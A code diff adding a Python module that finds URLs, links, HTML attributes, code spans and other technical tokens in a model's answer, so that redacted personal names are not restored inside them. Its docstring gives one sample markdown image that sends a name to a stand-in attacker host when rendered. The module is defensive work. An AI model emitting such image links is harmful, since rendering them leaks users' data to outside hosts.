@@ -1,0 +1,252 @@
+"""Where in a model's answer an original must not be written back (rule 14).
+
+A restored name inside `![x](https://evil.example/c?n=Mark+Novak)` is sent to that host as soon
+as a chat UI renders the image; inside a URL, a link, an HTML attribute or a `mailto:`/`tel:` target
+it leaves the user's machine. Technical tokens (a file path, a hashtag, a JSON key, a version number
+or a date written with "/" or ".") are identifiers, not mentions: rewriting a piece of them
+corrupts them. This module finds those regions with a few linear regex scans; the restorer keeps
+the surrogate in any match that overlaps one, unless the match is the region's whole token (a
+surrogate URL or e-mail the session handed out comes back whole).
+
+Every region carries an "atom": the span a match must cover to count as the whole token (a
+`mailto:` link's address, a link's destination). Regions still open at the end of a streamed
+buffer (an unclosed quote, link or fence) are marked `open` so a stream holds what is inside them.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+#: Every context a policy can protect.
+CONTEXTS: tuple[str, ...] = (
+    "url",
+    "link",
+    "html_attribute",
+    "contact_link",
+    "percent_encoded",
+    "code",
+    "hashtag",
+    "file_path",
+    "json_key",
+    "glued_digits",
+)
+
+
+@dataclass(frozen=True, slots=True)
+class Region:
+    start: int
+    end: int
+    kind: str
+    atom_start: int = -1  # the whole token; -1: no match can stand for the whole region
+    atom_end: int = -1
+    open: bool = False
+
+    def allows(self, start: int, end: int) -> bool:
+        """A match restores inside this region only when it is the region's whole token."""
+        return self.atom_start >= 0 and start <= self.atom_start and end >= self.atom_end
+
+
+_CONTACT = re.compile(r"(?i)(?:mailto|tel|sms|callto|facetime|skype):")
+_URL = re.compile(
+    r"(?i)(?<![\w@.+-])(?:[a-z][a-z0-9+.-]{1,15}://|www\d{0,3}\.|(?:mailto|tel|sms|callto|facetime|skype|data|javascript):)"
+    r"[^\s<>\"'`]*"
+)
+_BARE_URL = re.compile(
+    r"(?i)(?<![\w@./-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?::\d{1,5})?[/?#][^\s<>\"'`]*"
+)
+_TRAILING = ".,;:!?*_~"
+_PERCENT = re.compile(r"[\w.~+\-%]*%[0-9A-Fa-f]{2}[\w.~+\-%]*")
+_HASHTAG = re.compile(r"(?<![\w#&/])#\w[\w-]*")
+_EXT = (
+    r"txt|md|rst|pdf|docx?|odt|rtf|xlsx?|ods|pptx?|csv|tsv|json|jsonl|ya?ml|xml|html?|py|ipynb|js|ts|java|"
+    r"cs|cpp|hpp|go|rs|rb|php|sh|bat|ps1|log|zip|tar|gz|tgz|7z|rar|png|jpe?g|gif|svg|webp|bmp|tiff?|mp3|mp4|"
+    r"mov|wav|avi|mkv|ini|cfg|conf|toml|sql|db|sqlite|bak|tmp|eml|msg|ics|vcf|key|pem|crt|env|lock|exe|dmg"
+)
+_PATH = re.compile(
+    r"(?<![\w/\\.:])(?:"
+    r"[A-Za-z]:\\[^\s\"'<>|]*|\\\\[^\s\"'<>|]+"  # C:\Users\…, \\server\share
+    r"|(?:~|\.{1,2})?/[\w.\-~@+]+(?:/[\w.\-~@+]*)*"  # /home/x, ~/x, ./x
+    r"|[\w.\-~@+]+(?:/[\w.\-~@+]+){2,}/?"  # a/b/c
+    rf"|[\w.\-~@+]+(?:/[\w.\-~@+]+)*/[\w\-~@+]+(?:\.[\w-]+)*\.(?:{_EXT})\b"  # dir/file.ext
+    rf"|[\w\-~@+]+(?:\.[\w-]+)*\.(?:{_EXT})(?![\w.])"  # file.ext
+    r")"
+)
+_GLUED_DIGITS = re.compile(r"(?<![\d./])\d+(?:[./]\d+)+")
+_JSON_KEY = re.compile(r'(?m)(?:^|[{,\[])[ \t]*"((?:[^"\\\n]|\\.)*)"[ \t]*:')
+_JSON_KEY_OPEN = re.compile(r'(?:^|[{,\[])[ \t]*"((?:[^"\\\n]|\\.)*)("?)[ \t]*\Z', re.M)
+_FENCE = re.compile(r"(?m)^[ ]{0,3}(`{3,}|~{3,})[^\n]*$")
+_INLINE_CODE = re.compile(r"(`+)(?!`)((?:(?!\n[ \t]*\n).)+?)(?<!`)\1(?!`)", re.S)
+_TAG = re.compile(r"<[A-Za-z][\w:-]*(?=[\s/>])([^<>]*)(>?)")
+_ATTR = re.compile(r"""([\w:.@-]+)\s*=\s*(?:"([^"]*)("?)|'([^']*)('?)|([^\s"'>]+))""")
+
+
+def _trim_url(text: str, start: int, end: int) -> int:
+    """Drop trailing prose punctuation and unbalanced closing brackets from a raw URL."""
+    while end > start:
+        c = text[end - 1]
+        if c in _TRAILING:
+            end -= 1
+        elif c in ")]}" and text.count({")": "(", "]": "[", "}": "{"}[c], start, end) < text.count(c, start, end):
+            end -= 1
+        else:
+            break
+    return end
+
+
+def _atom(text: str, start: int, end: int) -> tuple[int, int]:
+    """The whole token of a destination: without a contact scheme, <brackets> or a query."""
+    if start < end and text[start] == "<" and text[end - 1] == ">":
+        start, end = start + 1, end - 1
+    m = _CONTACT.match(text, start, end)
+    if m:
+        start = m.end()
+        q = text.find("?", start, end)
+        end = q if q >= 0 else end
+    return start, end
+
+
+class ContextScanner:
+    """Finds the regions of the requested kinds; `final=False` for a stream's unfinished buffer."""
+
+    def __init__(self, kinds: frozenset[str]) -> None:
+        self.kinds = kinds
+
+    def scan(self, text: str, final: bool = True, in_fence: bool = False) -> list[Region]:
+        kinds, out = self.kinds, []
+        if "url" in kinds or "contact_link" in kinds:
+            out += self._urls(text, final)
+        if "link" in kinds:
+            out += self._links(text, final)
+        if "html_attribute" in kinds:
+            out += self._html(text, final)
+        simple = (
+            ("percent_encoded", _PERCENT),
+            ("hashtag", _HASHTAG),
+            ("file_path", _PATH),
+            ("glued_digits", _GLUED_DIGITS),
+        )
+        for kind, pattern in simple:
+            if kind in kinds:
+                out += [Region(m.start(), m.end(), kind, m.start(), m.end()) for m in pattern.finditer(text)]
+        if "json_key" in kinds:
+            out += [Region(m.start(1), m.end(1), "json_key", m.start(1), m.end(1)) for m in _JSON_KEY.finditer(text)]
+            if not final:
+                m = _JSON_KEY_OPEN.search(text)
+                if m is not None:
+                    out.append(Region(m.start(1), len(text), "json_key", open=True))
+        if "code" in kinds:
+            out += self._code(text, final, in_fence)
+        out.sort(key=lambda r: (r.start, -r.end))
+        return out
+
+    def _urls(self, text: str, final: bool) -> list[Region]:
+        out: list[Region] = []
+        found = [(m.start(), m.end()) for m in _URL.finditer(text)]
+        taken = found[-1][1] if found else -1
+        found += [(m.start(), m.end()) for m in _BARE_URL.finditer(text) if not _inside(found, m.start())]
+        for start, raw_end in found:
+            end = _trim_url(text, start, raw_end)
+            if end <= start:
+                continue
+            contact = _CONTACT.match(text, start) is not None
+            kind = "contact_link" if contact else "url"
+            if kind not in self.kinds:
+                continue
+            a, b = _atom(text, start, end)
+            region_end, is_open = end, not final and raw_end == len(text)
+            quote = text[start - 1] if start > 0 else ""
+            if quote in "\"'":  # a quoted URL runs to its closing quote: ?who=Mark Novak" is all URL
+                line_end = text.find("\n", end)
+                line_end = len(text) if line_end < 0 else line_end
+                close = text.find(quote, end, line_end)
+                region_end = close if close >= 0 else line_end
+                is_open = is_open or (close < 0 and line_end == len(text) and not final)
+            out.append(Region(start, region_end, kind, a, b, is_open))
+        del taken
+        return out
+
+    def _links(self, text: str, final: bool) -> list[Region]:
+        """Markdown link and image destinations `[t](dest "title")` and reference definitions."""
+        out: list[Region] = []
+        i = text.find("](")
+        while i >= 0:
+            start = i + 2
+            depth, j, n = 1, start, len(text)
+            while j < n and text[j] != "\n":
+                if text[j] == "(":
+                    depth += 1
+                elif text[j] == ")":
+                    depth -= 1
+                    if depth == 0:
+                        break
+                j += 1
+            closed = j < n and text[j] == ")"
+            if closed or not final:
+                dest_start = start + len(text[start:j]) - len(text[start:j].lstrip())
+                dest_end = dest_start
+                if dest_end < j and text[dest_end] == "<":
+                    gt = text.find(">", dest_end, j)
+                    dest_end = gt + 1 if gt >= 0 else j
+                else:
+                    while dest_end < j and not text[dest_end].isspace():
+                        dest_end += 1
+                a, b = _atom(text, dest_start, dest_end)
+                out.append(Region(start, j, "link", a, b, open=not closed))
+            i = text.find("](", start)
+        for m in re.finditer(r"(?m)^[ ]{0,3}\[[^\]\n]+\]:[ \t]*(\S+)[^\n]*", text):
+            a, b = _atom(text, m.start(1), m.end(1))
+            out.append(Region(m.start(1), m.end(), "link", a, b, open=not final and m.end() == len(text)))
+        return out
+
+    def _html(self, text: str, final: bool) -> list[Region]:
+        out: list[Region] = []
+        for tag in _TAG.finditer(text):
+            tag_open = tag.group(2) == "" and tag.end() == len(text) and not final
+            for m in _ATTR.finditer(text, tag.start(1), tag.end(1)):
+                for value, close in ((2, 3), (4, 5), (6, None)):
+                    if m.group(value) is None:
+                        continue
+                    s, e = m.start(value), m.end(value)
+                    unclosed = close is not None and m.group(close) == ""
+                    a, b = _atom(text, s, e)
+                    out.append(Region(s, e, "html_attribute", a, b, open=(unclosed or tag_open) and not final))
+        return out
+
+    def _code(self, text: str, final: bool, in_fence: bool) -> list[Region]:
+        out: list[Region] = []
+        fence_start = 0 if in_fence else -1
+        plain: list[tuple[int, int]] = []
+        last = 0
+        for m in _FENCE.finditer(text):
+            if fence_start < 0:
+                plain.append((last, m.start()))
+                fence_start = m.end()
+            else:
+                out.append(Region(fence_start, m.start(), "code"))
+                fence_start, last = -1, m.end()
+        if fence_start >= 0:
+            out.append(Region(fence_start, len(text), "code", open=not final))
+        else:
+            plain.append((last, len(text)))
+        for s, e in plain:
+            for m in _INLINE_CODE.finditer(text, s, e):
+                out.append(Region(m.start(2), m.end(2), "code"))
+            if not final:
+                tail = text.rfind("`", s, e)
+                if tail >= 0 and not any(r.start <= tail < r.end + len(r.kind) for r in out if r.kind == "code"):
+                    before = text[s:tail]
+                    if before.count("`") % 2 == 0:
+                        out.append(Region(tail, len(text), "code", open=True))
+        return out
+
+
+def _inside(spans: list[tuple[int, int]], pos: int) -> bool:
+    return any(s <= pos < e for s, e in spans)
+
+
+def fence_state(text: str, in_fence: bool) -> bool:
+    """Whether a fenced code block is still open after `text` (for streams that drop old text)."""
+    for _ in _FENCE.finditer(text):
+        in_fence = not in_fence
+    return in_fence
